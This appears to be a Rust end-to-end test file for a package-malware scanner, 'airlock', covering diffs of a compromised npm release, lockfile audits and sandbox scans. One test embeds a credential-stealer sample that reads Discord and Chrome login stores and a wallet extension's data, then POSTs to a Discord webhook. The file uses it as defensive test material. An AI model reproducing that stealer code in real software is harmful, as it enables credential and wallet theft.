//! End-to-end tests of what airlock sees without running anything: `airlock audit` over
//! lockfiles, `airlock diff` of two versions, and the static rules in `rules/static/`
//! deciding the chalk/debug 2025 shape (a patch release whose entry file gains an
//! obfuscated wallet hijacker that only runs in a browser). The `scan` test needs a
//! Docker engine like every e2e test; the rest runs the binary on local files only.
//!
//! The corpus measurements (ignored) print per-signal hit counts and static-only
//! verdicts over tarballs fetched beforehand (`static_corpus_table`), and the verdict
//! transitions of stored traces judged without and with their static events
//! (`static_vs_dynamic_table`); see their doc comments. `airlock-bench static-signals`
//! writes the same tables to files.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use airlock_events::{Ecosystem, Event, Record, Verdict};
use airlock_rules::Ruleset;
use common::*;

fn rules() -> Ruleset {
    Ruleset::load_dir(&repo().join("rules"))
        .unwrap_or_else(|e| panic!("{}", airlock_rules::Diagnostics(&e)))
}

fn packages() -> PathBuf {
    repo().join("tests/packages")
}

fn lockfiles() -> PathBuf {
    repo().join("crates/airlock-ecosystem/tests/fixtures/lockfiles")
}

fn osv() -> PathBuf {
    repo().join("crates/airlock-ecosystem/tests/fixtures/osv")
}

/// `--rules` of this checkout: the binary in a shared target dir may have been built
/// from another worktree, whose default rules directory is not this one.
fn rules_arg() -> String {
    repo().join("rules").to_string_lossy().into_owned()
}

/// Runs `airlock ARGS` and returns (exit code, stdout, stderr).
fn run(args: &[&str]) -> (i32, String, String) {
    let out = airlock().args(args).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn json_of(stdout: &str, stderr: &str) -> serde_json::Value {
    serde_json::from_str(stdout)
        .unwrap_or_else(|e| panic!("not one JSON object ({e}):\n{stdout}\nstderr:\n{stderr}"))
}

fn rules_of(findings: &serde_json::Value) -> BTreeSet<String> {
    findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

/// A gzip tarball of `dir` under `package/`, as `npm pack` writes it.
fn pack(dir: &Path, dest: &Path) {
    let file = std::fs::File::create(dest).unwrap();
    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    tar.append_dir_all("package", dir).unwrap();
    tar.into_inner().unwrap().finish().unwrap();
}

// ---------------------------------------------------------------------------------------
// airlock diff: the chalk/debug 2025 shape

/// The patch release 2.3.1 of `tinted` appends an obfuscated wallet hijacker to its entry
/// file. `airlock diff` names the file, the new endpoint, and judges the new version
/// malicious from static facts alone (the payload only runs in a browser).
#[test]
fn diff_shows_the_obfuscated_blob_added_by_a_patch_release() {
    let (old, new) = (packages().join("diff-old"), packages().join("diff-new"));
    let (code, out, err) = run(&[
        "diff",
        old.to_str().unwrap(),
        new.to_str().unwrap(),
        "--format",
        "json",
        "--rules",
        &rules_arg(),
    ]);
    let d = json_of(&out, &err);
    assert_eq!(
        code, 1,
        "malicious is at or above the default --fail-on: {err}"
    );
    assert_eq!(d["old"]["version"], "2.3.0");
    assert_eq!(d["new"]["version"], "2.3.1");
    assert_eq!(d["new_obfuscated_files"], serde_json::json!(["index.js"]));
    assert_eq!(
        d["new_endpoints"],
        serde_json::json!(["api.wallet-sync.example"])
    );
    let changed: Vec<&str> = d["changed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(changed, ["index.js", "package.json"]);
    assert!(
        d["added"].as_array().unwrap().is_empty() && d["removed"].as_array().unwrap().is_empty()
    );
    assert!(d["new_install_scripts"].as_array().unwrap().is_empty());
    let obf = d["signals"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["signal"] == "diff-new-obfuscated-file")
        .expect("diff signal");
    for shown in [
        "hex-identifiers",
        "string-array-rotation",
        "obfuscator-pattern",
        "wallet-regex",
    ] {
        assert!(obf["detail"].as_str().unwrap().contains(shown), "{obf}");
    }
    assert_eq!(d["verdict"], "malicious", "{:#}", d["findings"]);
    let rules = rules_of(&d["findings"]);
    for r in [
        "static-wallet-hijack",
        "static-diff-new-obfuscated-file",
        "static-diff-new-endpoint",
    ] {
        assert!(rules.contains(r), "{r} missing from {rules:?}");
    }
    let hijacks: Vec<_> = d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "static-wallet-hijack")
        .collect();
    assert_eq!(hijacks.len(), 1, "one finding per file: {hijacks:#?}");
    let hijack = hijacks[0];
    assert_eq!(hijack["decisive"], true);
    assert!(hijack["message"]
        .as_str()
        .unwrap()
        .starts_with("index.js: obfuscated: "));
}

/// The same diff on two tarballs, read in memory, and as the human report.
#[test]
fn diff_of_tarballs_and_human_output() {
    let tmp = tempfile::tempdir().unwrap();
    let (a, b) = (
        tmp.path().join("tinted-2.3.0.tgz"),
        tmp.path().join("tinted-2.3.1.tgz"),
    );
    pack(&packages().join("diff-old"), &a);
    pack(&packages().join("diff-new"), &b);
    let (code, out, err) = run(&[
        "diff",
        a.to_str().unwrap(),
        b.to_str().unwrap(),
        "--rules",
        &rules_arg(),
    ]);
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(
        out.lines().next().unwrap().ends_with("tinted-2.3.1.tgz"),
        "{out}"
    );
    assert!(
        out.contains("files: 0 added, 2 changed, 0 removed"),
        "{out}"
    );
    assert!(out.contains("~ index.js ("), "{out}");
    assert!(
        out.contains("new or changed obfuscated files:\n  file clean before index.js now shows:"),
        "{out}"
    );
    assert!(out.contains("new endpoints:\n  new endpoint api.wallet-sync.example: https://api.wallet-sync.example/v1/seen (index.js:37)"), "{out}");
    assert!(out.contains("verdict: malicious"), "{out}");
    assert!(
        out.contains("[critical] static-wallet-hijack: index.js: obfuscated: "),
        "{out}"
    );
    // Nothing was unpacked next to the archives.
    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 2);
}

/// Issue 19: a tarball of two concatenated gzip members. npm installs the files of both;
/// the diff once read only the first, so a stealer in the second member was invisible.
/// `airlock diff` of two local tarballs must list it, judge it, and report the archive.
#[test]
fn diff_sees_the_second_gzip_member() {
    let tmp = tempfile::tempdir().unwrap();
    let (a, b) = (
        tmp.path().join("tinted-2.3.0.tgz"),
        tmp.path().join("tinted-2.3.1.tgz"),
    );
    pack(&packages().join("diff-old"), &a);
    let stealer = br#"const local = process.env.LOCALAPPDATA, roaming = process.env.APPDATA;
const paths = [roaming + '\\discord\\Local Storage\\leveldb', local + '\\Google\\Chrome\\User Data\\Default\\Login Data'];
const ext = require('path').join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
fetch('https://discord.com/api/webhooks/1045000289708687390/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-aBcDeFgHiJkLmNoPqRsTuVwXyZ012', { method: 'POST' });
"#;
    let mut second = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(stealer.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    second
        .append_data(&mut h, "package/lib/sync.js", &stealer[..])
        .unwrap();
    let second = second.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &second).unwrap();
    let mut bytes = std::fs::read(&a).unwrap();
    bytes.extend(gz.finish().unwrap());
    std::fs::write(&b, bytes).unwrap();
    let (code, out, err) = run(&[
        "diff",
        a.to_str().unwrap(),
        b.to_str().unwrap(),
        "--format",
        "json",
        "--rules",
        &rules_arg(),
    ]);
    let d = json_of(&out, &err);
    let added: Vec<&str> = d["added"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().or(c.as_str()).unwrap_or_default())
        .collect();
    assert!(added.contains(&"lib/sync.js"), "{added:?}\n{out}");
    let rules = rules_of(&d["findings"]);
    for r in ["static-credential-stealer", "static-archive-malformed"] {
        assert!(rules.contains(r), "{r} missing from {rules:?}");
    }
    assert_ne!(d["verdict"], "benign");
    assert!(code >= 0, "{err}");
}

/// Going back from the compromised release removes the payload: nothing new to flag,
/// and the old version's own static signals are clean.
#[test]
fn diff_back_to_the_clean_release_is_benign() {
    let (old, new) = (packages().join("diff-old"), packages().join("diff-new"));
    let (code, out, err) = run(&[
        "diff",
        new.to_str().unwrap(),
        old.to_str().unwrap(),
        "--format",
        "json",
        "--rules",
        &rules_arg(),
    ]);
    let d = json_of(&out, &err);
    assert_eq!(code, 0, "{err}");
    assert_eq!(d["verdict"], "benign", "{:#}", d["findings"]);
    assert!(
        d["signals"].as_array().unwrap().is_empty(),
        "{:#}",
        d["signals"]
    );
    assert!(d["findings"].as_array().unwrap().is_empty());
}

#[test]
fn diff_errors_exit_2() {
    let (code, _, err) = run(&["diff", "./no-such-1.0.0.tgz", "./other.tgz"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("no-such-1.0.0.tgz: no such file or directory"),
        "{err}"
    );
    let dir = packages().join("diff-old");
    let (code, _, err) = run(&["diff", dir.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(
        err.contains("with one argument, give name@version"),
        "{err}"
    );
    let junk = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(junk.path(), "not an archive").unwrap();
    let (code, _, err) = run(&["diff", junk.path().to_str().unwrap(), dir.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("not a package archive"), "{err}");
}

/// A loopback npm registry answering from routes built with its own base URL (404
/// otherwise); returns the base URL and the log of requested paths.
fn loopback_registry(
    routes: impl FnOnce(&str) -> Vec<(String, Vec<u8>)>,
) -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let table = routes(&base);
    let log = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log2 = log.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            let mut buf = Vec::new();
            let mut chunk = [0u8; 4096];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            let req = String::from_utf8_lossy(&buf).to_string();
            let path = req.split_whitespace().nth(1).unwrap_or("/").to_string();
            log2.lock().unwrap().push(path.clone());
            let (status, body) = match table.iter().find(|(p, _)| *p == path) {
                Some((_, b)) => ("200 OK", b.clone()),
                None => ("404 Not Found", b"not found".to_vec()),
            };
            let head = format!(
                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = s.write_all(head.as_bytes());
            let _ = s.write_all(&body);
        }
    });
    (base, log)
}

/// `airlock diff tinted@2.3.1` against a (loopback) registry: the previous version is
/// found in the full packument, both tarballs are fetched and integrity-checked, and
/// the packument's maintainers and provenance add the takeover half of the story: 2.3.0
/// was published with provenance by alice, 2.3.1 without it by mallory.
#[test]
fn diff_of_registry_versions_uses_maintainers_and_provenance() {
    use sha1::Digest as _;
    let tmp = tempfile::tempdir().unwrap();
    let (a, b) = (tmp.path().join("a.tgz"), tmp.path().join("b.tgz"));
    pack(&packages().join("diff-old"), &a);
    pack(&packages().join("diff-new"), &b);
    let (old, new) = (std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
    let (s_old, s_new) = (
        hex::encode(sha1::Sha1::digest(&old)),
        hex::encode(sha1::Sha1::digest(&new)),
    );
    let (base, log) = loopback_registry(|base| {
        let packument = format!(
            r#"{{"name":"tinted","dist-tags":{{"latest":"2.3.1"}},"versions":{{
              "2.3.0":{{"maintainers":[{{"name":"alice"}}],"_npmUser":{{"name":"alice"}},
                       "dist":{{"tarball":"{base}/tinted/-/tinted-2.3.0.tgz","shasum":"{s_old}","attestations":{{"url":"{base}/att","provenance":{{}}}}}}}},
              "2.3.1":{{"maintainers":[{{"name":"alice"}}],"_npmUser":{{"name":"mallory"}},
                       "dist":{{"tarball":"{base}/tinted/-/tinted-2.3.1.tgz","shasum":"{s_new}"}}}}
            }}}}"#
        );
        vec![
            ("/tinted".into(), packument.into_bytes()),
            ("/tinted/-/tinted-2.3.0.tgz".into(), old.clone()),
            ("/tinted/-/tinted-2.3.1.tgz".into(), new.clone()),
        ]
    });
    let (code, out, err) = run(&[
        "diff",
        "tinted@latest",
        "--registry",
        &base,
        "--format",
        "json",
        "--rules",
        &rules_arg(),
    ]);
    let d = json_of(&out, &err);
    assert_eq!(code, 1, "{err}");
    assert_eq!(d["old"]["input"], "tinted@2.3.0");
    assert_eq!(d["new"]["input"], "tinted@2.3.1");
    assert!(
        d["maintainer_change"].as_str().unwrap().contains("mallory"),
        "{d:#}"
    );
    assert_eq!(d["provenance_dropped"], true);
    let rules = rules_of(&d["findings"]);
    for r in [
        "static-diff-takeover-shape",
        "static-diff-provenance-dropped",
        "static-diff-maintainer-change",
        "static-wallet-hijack",
    ] {
        assert!(rules.contains(r), "{r} missing from {rules:?}");
    }
    let paths = log.lock().unwrap().clone();
    assert!(paths.iter().all(|p| p.starts_with("/tinted")), "{paths:?}");
    assert!(paths.contains(&"/tinted/-/tinted-2.3.0.tgz".to_string()));
}

// ---------------------------------------------------------------------------------------
// airlock audit

/// The npm v3 fixture: every finding with its lockfile line, a known-malicious version
/// from the local OSV export, and exit 1 at the default `--fail-on high`.
#[test]
fn audit_json_reports_codes_lines_and_osv() {
    let lock = lockfiles().join("npm-v3/package-lock.json");
    let (code, out, err) = run(&[
        "audit",
        lock.to_str().unwrap(),
        "--osv",
        osv().to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{err}");
    let r = json_of(&out, &err);
    assert_eq!(r["schema_version"], "1");
    assert_eq!(r["packages"], 13);
    let f = r["findings"].as_array().unwrap();
    assert_eq!(f.len(), 12, "{f:#?}");
    // Most severe first.
    assert_eq!(f[0]["code"], "known-malicious");
    assert_eq!(f[0]["severity"], "critical");
    assert_eq!(f[0]["package"], "evil-pkg");
    assert_eq!(f[0]["version"], "6.6.6");
    assert_eq!(f[0]["line"], 61);
    assert!(f[0]["lockfile"]
        .as_str()
        .unwrap()
        .ends_with("npm-v3/package-lock.json"));
    let opt = f
        .iter()
        .find(|x| x["code"] == "optional-git-dependency")
        .unwrap();
    assert_eq!(
        (opt["package"].as_str(), opt["line"].as_u64()),
        (Some("optgit"), Some(32))
    );
    assert_eq!(r["counts"]["critical"], 1);
}

/// SARIF results point at the lockfile and line; rules are listed once per code.
#[test]
fn audit_sarif_points_at_lockfile_lines() {
    let lock = lockfiles().join("npm-v3/package-lock.json");
    let (code, out, err) = run(&[
        "audit",
        lock.to_str().unwrap(),
        "--osv",
        osv().to_str().unwrap(),
        "--format",
        "sarif",
    ]);
    assert_eq!(code, 1, "{err}");
    let s = json_of(&out, &err);
    assert_eq!(s["version"], "2.1.0");
    let run0 = &s["runs"][0];
    assert_eq!(run0["tool"]["driver"]["name"], "airlock");
    let rules = run0["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run0["results"].as_array().unwrap();
    assert_eq!(results.len(), 12);
    for r in results {
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[idx]["id"], r["ruleId"]);
        let loc = &r["locations"][0]["physicalLocation"];
        assert!(loc["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("package-lock.json"));
        assert!(loc["region"]["startLine"].as_u64().unwrap() > 1);
    }
    let weak = results
        .iter()
        .find(|r| r["ruleId"] == "weak-integrity-sha1")
        .unwrap();
    assert_eq!(weak["level"], "note");
    assert_eq!(
        weak["locations"][0]["physicalLocation"]["region"]["startLine"],
        51
    );
}

/// A directory is searched for lockfiles (node_modules skipped); `--fail-on` decides
/// the exit code; the human table names each lockfile.
#[test]
fn audit_walks_a_project_and_honours_fail_on() {
    let tmp = tempfile::tempdir().unwrap();
    let web = tmp.path().join("web");
    std::fs::create_dir_all(web.join("node_modules/dep")).unwrap();
    std::fs::copy(
        lockfiles().join("npm-v3/package-lock.json"),
        web.join("package-lock.json"),
    )
    .unwrap();
    // An installed dependency's lockfile is not the project's.
    std::fs::write(web.join("node_modules/dep/package-lock.json"), "not json").unwrap();
    let api = tmp.path().join("services/api");
    std::fs::create_dir_all(&api).unwrap();
    std::fs::write(api.join("requirements-dev.txt"), "pytest>=7\n").unwrap();
    let root = tmp.path().to_str().unwrap();

    let (code, out, err) = run(&["audit", root]);
    assert_eq!(code, 1, "optional git dependency is high: {out}\n{err}");
    assert!(out.starts_with("SEVERITY"), "{out}");
    assert!(out.contains("2 lockfiles, 14 packages"), "{out}");
    assert!(out.contains("services/api/requirements-dev.txt"), "{out}");
    assert!(out.contains("unpinned-requirement"), "{out}");
    assert!(!out.contains("node_modules"), "{out}");

    // Only the Python project: an unpinned requirement (without hashes) is low.
    let (code, out, _) = run(&["audit", api.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}");
    let (code, _, _) = run(&["audit", api.to_str().unwrap(), "--fail-on", "medium"]);
    assert_eq!(code, 0);
    let (code, _, _) = run(&["audit", api.to_str().unwrap(), "--fail-on", "low"]);
    assert_eq!(code, 1);

    // No lockfile at all is an error, not a clean bill.
    let empty = tempfile::tempdir().unwrap();
    let (code, _, err) = run(&["audit", empty.path().to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(err.contains("no lockfile found"), "{err}");
    let (code, _, err) = run(&["audit", root, "--osv", "/no/such/osv"]);
    assert_eq!(code, 2, "{err}");
}

// ---------------------------------------------------------------------------------------
// airlock scan (Docker): static signals decide what the sandbox cannot see

/// The compromised release installs and imports cleanly in the sandbox — its payload
/// waits for a browser — yet the static findings alone make it at least suspicious (the
/// wallet hijack rule is decisive); install and import saw no network (only the browser
/// persona, which runs the browser entry, may).
#[test]
fn scan_of_the_compromised_release_is_flagged_by_static_signals() {
    let dir = packages().join("diff-new");
    let trace = tempfile::NamedTempFile::new().unwrap();
    let (code, r, stderr) = scan_json(&[
        dir.to_str().unwrap(),
        "--trace-out",
        trace.path().to_str().unwrap(),
        "--no-store",
        "--rules",
        &rules_arg(),
    ]);
    assert_eq!(phase(&r, "install")["status"], "ok", "{stderr}");
    assert_eq!(phase(&r, "import")["status"], "ok", "{stderr}");
    let verdict = r["verdict"].as_str().unwrap();
    assert!(
        verdict == "suspicious" || verdict == "malicious",
        "{verdict}: {:#}",
        r["findings"]
    );
    assert_eq!(code, i32::from(verdict == "malicious"), "{stderr}");
    // Static findings alone reach the verdict.
    let findings = r["findings"].as_array().unwrap();
    let static_rules: BTreeSet<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .filter(|id| id.starts_with("static-"))
        .collect();
    assert!(
        static_rules.contains("static-wallet-hijack"),
        "{findings:#?}"
    );
    let events = read_trace(trace.path());
    let static_events: Vec<Event> = events
        .iter()
        .filter(|e| e["record"] == "event" && e["phase"] == "static")
        .map(|e| serde_json::from_value(e.clone()).unwrap())
        .collect();
    assert!(static_events.len() >= 6, "{static_events:?}");
    let j = rules().judge_static("tinted", Ecosystem::Npm, static_events);
    assert!(
        matches!(j.verdict, Verdict::Suspicious | Verdict::Malicious),
        "static alone: {:?} {:#?}",
        j.verdict,
        j.findings
    );
    // The payload never ran at install or import: no DNS, no connection, no HTTP there.
    // It waits for a browser, and only the browser persona (issue 15) runs it.
    let net = |e: &&serde_json::Value| {
        matches!(
            e["type"].as_str(),
            Some("dns.query" | "http.request" | "net.connection")
        )
    };
    let phases: BTreeSet<&str> = events
        .iter()
        .filter(net)
        .filter_map(|e| e["phase"].as_str())
        .collect();
    assert!(
        phases.iter().all(|p| p.starts_with("exercise@browser")),
        "network outside the browser persona: {phases:?}"
    );
}

/// The clean release, scanned the same way, is benign: the static rules add nothing.
#[test]
fn scan_of_the_clean_release_is_benign() {
    let dir = packages().join("diff-old");
    let (code, r, stderr) =
        scan_json(&[dir.to_str().unwrap(), "--no-store", "--rules", &rules_arg()]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(r["verdict"], "benign", "{:#}", r["findings"]);
}

/// Per-signal counts over one corpus: signal → (hits, packages with a hit).
#[derive(Default)]
struct Table {
    packages: usize,
    signals: BTreeMap<String, (usize, BTreeSet<String>)>,
    verdicts: BTreeMap<String, Vec<String>>,
    rules: BTreeMap<String, BTreeSet<String>>,
    bytes: u64,
    ms: u64,
}

impl Table {
    fn add(&mut self, rules: &Ruleset, label: &str, eco: Ecosystem, path: &Path) {
        let r = match airlock_static::scan_archive(path, &airlock_static::ScanOptions::default()) {
            Ok(r) => r,
            Err(e) => {
                self.verdicts
                    .entry("unreadable".into())
                    .or_default()
                    .push(format!("{label}: {e}"));
                return;
            }
        };
        self.packages += 1;
        self.bytes += r.bytes_analyzed;
        // AIRLOCK_CORPUS_SHOW=id,id prints those signals in full (for tuning).
        let show = std::env::var("AIRLOCK_CORPUS_SHOW").unwrap_or_default();
        for s in &r.signals {
            if show.split(',').any(|id| id == s.signal || id == "all") {
                println!(
                    "{label}: {} {}:{} {}",
                    s.signal,
                    s.file,
                    s.line.unwrap_or(0),
                    s.detail
                );
            }
        }
        self.ms += r.elapsed_ms;
        for s in &r.signals {
            let e = self.signals.entry(s.signal.clone()).or_default();
            e.0 += 1;
            e.1.insert(label.to_string());
        }
        let j = rules.judge_static(label, eco, r.events(1000.0));
        for f in &j.findings {
            self.rules
                .entry(f.rule.clone())
                .or_default()
                .insert(label.to_string());
        }
        self.verdicts
            .entry(j.verdict.to_string())
            .or_default()
            .push(format!("{label} ({:.1})", j.score));
    }

    fn print(&self, title: &str) {
        println!(
            "\n## {title}: {} packages, {:.1} MB read in {} ms\n",
            self.packages,
            self.bytes as f64 / 1e6,
            self.ms
        );
        println!("| signal | hits | packages |\n|---|---:|---:|");
        for (id, (hits, pkgs)) in &self.signals {
            println!("| {id} | {hits} | {} |", pkgs.len());
        }
        println!("\nstatic rules that fired (packages):");
        for (rule, pkgs) in &self.rules {
            let some: Vec<_> = pkgs.iter().take(6).cloned().collect();
            println!("  {rule}: {} — {}", pkgs.len(), some.join(", "));
        }
        println!("\nstatic-only verdicts:");
        for (v, pkgs) in &self.verdicts {
            let some: Vec<_> = pkgs.iter().take(25).cloned().collect();
            println!("  {v}: {} — {}", pkgs.len(), some.join(", "));
        }
    }
}

/// Per-signal hit counts of the static pass and static-only verdicts over the benign npm
/// tarballs in `$AIRLOCK_CORPUS_NPM` (a directory of `npm pack` outputs), the benign
/// PyPI sdists and wheels in `$AIRLOCK_CORPUS_PYPI_BENIGN` (downloaded from PyPI's JSON
/// API, never built), and the PyPI malware zip `$AIRLOCK_CORPUS_PYPI_ZIP` (password `infected`; entries are copied out
/// as bytes with `sample_zip::extract_to_temp` and read in memory — nothing is
/// unpacked or run). Prints Markdown tables; asserts that no benign package is judged
/// above benign on static signals alone.
///
/// ```text
/// mkdir -p /tmp/static-corpus/npm && cd /tmp/static-corpus/npm && \
///   for p in $(grep -v '^#' /work/shared/corpus/benign-npm-dev.txt | awk '{print $1}'); do
///     npm pack --ignore-scripts "$p"; done
/// AIRLOCK_CORPUS_NPM=/tmp/static-corpus/npm AIRLOCK_CORPUS_PYPI_BENIGN=/tmp/static-corpus/pypi \
/// AIRLOCK_CORPUS_PYPI_ZIP=/work/shared/corpus/pypi-malicious-dev/samples.zip \
///   cargo test --release -p airlock --test e2e_static -- --ignored --nocapture static_corpus_table
/// ```
#[test]
#[ignore = "needs the corpus on disk (AIRLOCK_CORPUS_NPM, AIRLOCK_CORPUS_PYPI_ZIP)"]
fn static_corpus_table() {
    let rules = rules();
    let mut benign_flagged = Vec::new();
    if let Some(dir) = std::env::var_os("AIRLOCK_CORPUS_NPM") {
        let mut t = Table::default();
        let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "tgz"))
            .collect();
        files.sort();
        for f in &files {
            let label = f.file_stem().unwrap().to_string_lossy().into_owned();
            t.add(&rules, &label, Ecosystem::Npm, f);
        }
        t.print("benign npm (dev list)");
        for (v, pkgs) in &t.verdicts {
            if v != &Verdict::Benign.to_string() {
                benign_flagged.extend(pkgs.iter().cloned());
            }
        }
    }
    if let Some(dir) = std::env::var_os("AIRLOCK_CORPUS_PYPI_BENIGN") {
        let mut t = Table::default();
        let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| {
                let n = p.to_string_lossy();
                n.ends_with(".tar.gz") || n.ends_with(".whl") || n.ends_with(".zip")
            })
            .collect();
        files.sort();
        for f in &files {
            let label = f.file_name().unwrap().to_string_lossy().into_owned();
            let label = label.split("-cp").next().unwrap_or(&label).to_string();
            t.add(&rules, &label, Ecosystem::Pypi, f);
        }
        t.print("benign PyPI (dev list; sdists and wheels)");
        for (v, pkgs) in &t.verdicts {
            if v != &Verdict::Benign.to_string() {
                benign_flagged.extend(pkgs.iter().cloned());
            }
        }
    }
    if let Some(zip) = std::env::var_os("AIRLOCK_CORPUS_PYPI_ZIP") {
        let (_tmp, got) =
            airlock_ecosystem::sample_zip::extract_to_temp(Path::new(&zip), Some("infected"))
                .unwrap();
        let mut t = Table::default();
        // Per distinct setup.py too: the corpus is full of near-identical typosquats.
        let mut by_setup: BTreeMap<[u8; 32], String> = BTreeMap::new();
        for x in &got {
            let label = x.entry.name.split('/').next().unwrap_or("?").to_string();
            t.add(&rules, &label, Ecosystem::Pypi, &x.path);
            let files = airlock_static::read_archive(&x.path, &Default::default());
            if let Some(setup) = files
                .ok()
                .and_then(|fs| fs.into_iter().find(|f| f.rel == "setup.py"))
            {
                by_setup.entry(setup.sha256).or_insert(label);
            }
        }
        t.print("PyPI malware (dev sample)");
        let distinct: BTreeSet<&String> = by_setup.values().collect();
        let mut per_setup: BTreeMap<String, usize> = BTreeMap::new();
        for (v, pkgs) in &t.verdicts {
            for p in pkgs {
                let name = p.split(' ').next().unwrap_or("");
                if distinct.iter().any(|d| d.as_str() == name) {
                    *per_setup.entry(v.clone()).or_default() += 1;
                }
            }
        }
        println!(
            "\nper distinct setup.py ({}): {per_setup:?}",
            distinct.len()
        );
    }
    assert!(
        benign_flagged.is_empty(),
        "benign packages judged above benign on static signals alone: {benign_flagged:?}"
    );
}

/// Dynamic alone versus dynamic plus static, over stored traces: for every
/// `*.trace.jsonl` in `$AIRLOCK_EVAL_DIR` (traces written by `airlock scan --trace-out`,
/// e.g. an evaluation run), the static events of the trace are replaced by a fresh
/// static pass over the same artifact (found by file name under
/// `$AIRLOCK_EVAL_ARTIFACTS`, read in memory), then the trace is judged without and
/// with them. Prints the verdict transitions and the samples that changed. A trace
/// whose artifact is not found (the PyPI malware: samples are never copied out for
/// this) is judged with the static events it stored.
///
/// ```text
/// AIRLOCK_EVAL_DIR=/work/bench-cache/eval/pypi-malware \
/// AIRLOCK_EVAL_ARTIFACTS=target/airlock-bench/downloads \
///   cargo test --release -p airlock --test e2e_static -- --ignored --nocapture static_vs_dynamic
/// ```
#[test]
#[ignore = "needs stored traces (AIRLOCK_EVAL_DIR) and their artifacts (AIRLOCK_EVAL_ARTIFACTS)"]
fn static_vs_dynamic_table() {
    let rules = rules();
    // Relative paths are taken from the repository root (tests run in crates/airlock).
    let dir = repo().join(std::env::var_os("AIRLOCK_EVAL_DIR").expect("AIRLOCK_EVAL_DIR"));
    let mut artifacts: BTreeMap<String, PathBuf> = BTreeMap::new();
    if let Some(root) = std::env::var_os("AIRLOCK_EVAL_ARTIFACTS") {
        let mut stack = vec![repo().join(root)];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if let Some(n) = p.file_name() {
                    artifacts.insert(n.to_string_lossy().into_owned(), p);
                }
            }
        }
    }
    let mut traces: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().ends_with(".trace.jsonl"))
        .collect();
    traces.sort();
    let mut matrix: BTreeMap<(String, String), usize> = BTreeMap::new();
    let mut changed = Vec::new();
    let mut fresh = 0;
    for t in &traces {
        let name = t
            .file_name()
            .unwrap()
            .to_string_lossy()
            .replace(".trace.jsonl", "");
        let file = std::fs::File::open(t).unwrap();
        let Ok(trace) = airlock_events::Trace::read(std::io::BufReader::new(file)) else {
            continue;
        };
        let dynamic: Vec<Event> = trace
            .events
            .iter()
            .filter(|e| e.phase != "static")
            .cloned()
            .collect();
        let t0 = dynamic.first().map(|e| e.ts - 1.0).unwrap_or(0.0);
        // `npm pack` names scoped tarballs `scope-name-1.0.0.tgz`; evaluations may keep
        // `name@version`.
        let npm_name = name
            .replace('@', "-")
            .trim_start_matches('-')
            .replace('/', "-");
        let candidates = [
            name.clone(),
            format!("{npm_name}.tgz"),
            format!("{}.tgz", npm_name.replace('_', "-")),
        ];
        let static_events: Vec<Event> = match candidates.iter().find_map(|c| artifacts.get(c)) {
            Some(p) => {
                fresh += 1;
                let mut events = airlock_static::scan_archive(p, &Default::default())
                    .map(|r| r.events(t0))
                    .unwrap_or_default();
                // Version-diff signals (they need the registry) and notes are kept.
                events.extend(
                    trace
                        .events
                        .iter()
                        .filter(|e| e.phase == "static")
                        .filter(|e| {
                            !matches!(&e.kind, airlock_events::EventKind::StaticSignal { signal, .. }
                                if !signal.starts_with("diff-"))
                        })
                        .cloned(),
                );
                events
            }
            None => trace
                .events
                .iter()
                .filter(|e| e.phase == "static")
